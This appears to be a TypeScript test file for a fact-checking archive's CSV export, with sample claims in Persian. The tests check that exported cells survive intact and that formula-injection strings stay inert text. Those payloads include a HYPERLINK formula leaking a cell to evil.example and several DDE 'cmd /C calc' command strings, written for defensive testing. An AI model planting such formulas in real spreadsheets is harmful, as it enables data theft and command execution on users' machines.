// A spreadsheet shows what was written, and runs none of it.
import type { ClaimLine } from "@sanad/core/archive";
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { csvOf } from "../packages/functions/src/cli/csv.ts";
import { collect } from "./support/archive.ts";

const plain: ClaimLine = {
  id: "claim_01jvnb9zk5e7t8q2m3x4y6w7a9",
  text: "پل اکسمپل‌تون چهار دهانه دارد.",
  language: "fa",
  claimant: "شهردار",
  claimedAt: "2025-03",
  topics: ["bridges", "sport, water"],
  status: "PUBLISHED",
  verdict: "FALSE",
  label: "نادرست",
  summary: 'سه دهانه دارد؛ نقشه می‌گوید: "۳".\nو بس.',
  reviewLanguage: "fa",
  reviewedAt: "2025-05-20T08:00:00.000Z",
  createdAt: "2025-05-20T08:00:00.000Z",
  updatedAt: "2025-05-20T08:00:00.000Z",
  appearances: 1,
  supports: 0,
  refutes: 2,
  context: 0,
  otherReviews: 0,
};

async function csvText(claims: readonly ClaimLine[]): Promise<string> {
  async function* all() {
    yield* claims;
  }
  return (await collect(csvOf(all(), "https://sanad.example"))).join("");
}

function cellsOf(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, record_delimiter: "\r\n" });
}

test("a claim is read back as it was, whatever is in its texts", async () => {
  const text = await csvText([plain, { ...plain, verdict: null, label: null, summary: null }]);
  expect(text.startsWith("\ufeff")).toBe(true);
  const [row, other] = cellsOf(text);
  expect(row).toMatchObject({
    id: plain.id,
    url: `https://sanad.example/claims/${plain.id}`,
    text: plain.text,
    topics: "bridges, sport, water",
    summary: plain.summary,
    refutes: "2",
  });
  expect(other).toMatchObject({ verdict: "", label: "", summary: "" });
});

test.each([
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200f=1+1",
  "\u200c-1",
  "\ufeff@A1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  '"=1+1"\r\n=2+2',
])("%j is text, in every column that holds what somebody wrote", async (evil) => {
  const claim = {
    ...plain,
    text: evil,
    claimant: evil,
    topics: [evil],
    label: evil,
    summary: evil,
  };
  const [row = {}, ...rest] = cellsOf(await csvText([claim]));
  expect(rest).toEqual([]);
  for (const column of ["text", "claimant", "topics", "label", "summary"]) {
    expect(row[column]?.replace(/^'/, "")).toBe(evil);
    expect(row[column]).toMatch(/^['"]/);
  }
});
